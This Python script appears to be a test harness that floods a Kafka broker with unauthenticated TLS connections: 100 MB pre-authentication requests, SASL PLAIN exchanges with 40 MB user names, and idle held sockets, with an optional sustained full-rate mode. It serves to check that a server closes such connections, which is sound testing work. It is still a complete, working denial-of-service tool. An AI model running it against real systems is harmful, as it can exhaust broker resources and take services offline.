"""Connections without credentials that attack a Kafka port before authentication, and
hold them.

    python preauth_flood.py HOST:PORT CA_PEM COUNT [SOURCE_IP ...]
    python preauth_flood.py --for SECONDS HOST:PORT CA_PEM COUNT [SOURCE_IP ...]

Opens COUNT TLS connections (no client certificate; the CA verifies the server) from
the source addresses in turn, 50 handshakes at a time, each bounded by 30 s; a third of
them announce a 100 MB request and send as much of it as the server takes, a third
start a PLAIN exchange (SaslHandshake) and announce a SaslAuthenticate with a 40 MB user
name, sending as much of it as the server takes, and a third complete TLS and send
nothing more. Prints one JSON line {"opened": n, "failed": n} once every connection made
its attack, then every second {"open": n} (connections the server has not closed)
until its stdin closes; then closes them all. With --for, it repeats the attacks for
SECONDS instead, COUNT connections at a time, each closed once the server closed it
or after 2 s, and prints {"attacks": n} at the end: the attack at full rate."""
from __future__ import annotations

import asyncio
import json
import resource
import ssl
import struct
import sys

ATTACK_BYTES = 100 << 20
USER_NAME_BYTES = 40 << 20


def raise_limit(n: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < n:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(n, hard), hard))


def frame(api_key: int, version: int, body: bytes) -> bytes:
    header = struct.pack(">hhih", api_key, version, 1, 4) + b"pre-"
    return struct.pack(">i", len(header) + len(body)) + header + body


async def send_all(writer: asyncio.StreamWriter, head: bytes, size: int) -> None:
    """Write `head`, then zeros up to `size` bytes in all, until the server closes."""
    writer.write(head)
    chunk = bytes(1 << 20)
    sent = len(head)
    while sent < size:
        writer.write(chunk[:min(len(chunk), size - sent)])
        sent += len(chunk)
        await asyncio.wait_for(writer.drain(), 30)


async def attack(i: int, host: str, port: int, ctx: ssl.SSLContext, source: str | None, gate: asyncio.Semaphore):
    async with gate:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(
            host, port, ssl=ctx, server_hostname=host, local_addr=(source, 0) if source else None), 30)
    try:
        if i % 3 == 0:  # a 100 MB request before authentication
            await send_all(writer, struct.pack(">i", ATTACK_BYTES), ATTACK_BYTES)
        elif i % 3 == 1:  # PLAIN with a 40 MB user name
            name = b"PLAIN"
            writer.write(frame(17, 1, struct.pack(">h", len(name)) + name))
            size = struct.unpack(">i", await asyncio.wait_for(reader.readexactly(4), 30))[0]
            await asyncio.wait_for(reader.readexactly(size), 30)
            token_size = USER_NAME_BYTES + 4
            header = struct.pack(">hhih", 36, 1, 2, 4) + b"pre-"
            head = struct.pack(">i", len(header) + 4 + token_size) + header + struct.pack(">i", token_size) + b"\0"
            await send_all(writer, head, len(head) + token_size - 1)
    except (ConnectionError, OSError, asyncio.IncompleteReadError, asyncio.TimeoutError, ssl.SSLError):
        pass  # the server closed it: what it should do
    return reader, writer


async def repeat(seconds: float, host: str, port: int, ctx: ssl.SSLContext, count: int, sources: list) -> None:
    """COUNT attackers, each attacking again as soon as its last attack ended, for `seconds`."""
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    done = [0]
    gate = asyncio.Semaphore(count)

    async def attacker(n: int) -> None:
        i = n
        while loop.time() < end:
            try:
                reader, writer = await attack(i, host, port, ctx, sources[i % len(sources)], gate)
                try:
                    await asyncio.wait_for(reader.read(), 2)
                except (asyncio.TimeoutError, ConnectionError, OSError, ssl.SSLError):
                    pass
                writer.close()
            except (ConnectionError, OSError, asyncio.TimeoutError, ssl.SSLError):
                await asyncio.sleep(0.1)
            done[0] += 1
            i += count
    await asyncio.gather(*(attacker(n) for n in range(count)))
    print(json.dumps({"attacks": done[0]}), flush=True)


async def main() -> None:
    seconds = None
    if sys.argv[1] == "--for":
        seconds = float(sys.argv[2])
        del sys.argv[1:3]
    address, ca, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
    sources = sys.argv[4:] or [None]
    host, port = address.rsplit(":", 1)
    raise_limit(count + 1000)
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False
    if seconds is not None:
        await repeat(seconds, host, int(port), ctx, count, sources)
        return
    gate = asyncio.Semaphore(50)
    results = await asyncio.gather(*(attack(i, host, int(port), ctx, sources[i % len(sources)], gate)
                                     for i in range(count)), return_exceptions=True)
    conns = [r for r in results if isinstance(r, tuple)]
    print(json.dumps({"opened": len(conns), "failed": count - len(conns)}), flush=True)
    # Read (and drop) whatever comes, so a close is seen.
    drains = [asyncio.ensure_future(r.read()) for r, _ in conns]
    stdin = asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    while not stdin.done():
        print(json.dumps({"open": sum(not d.done() for d in drains)}), flush=True)
        await asyncio.wait([stdin], timeout=1)
    for d in drains:
        d.cancel()
    for _, w in conns:
        w.close()


if __name__ == "__main__":
    asyncio.run(main())
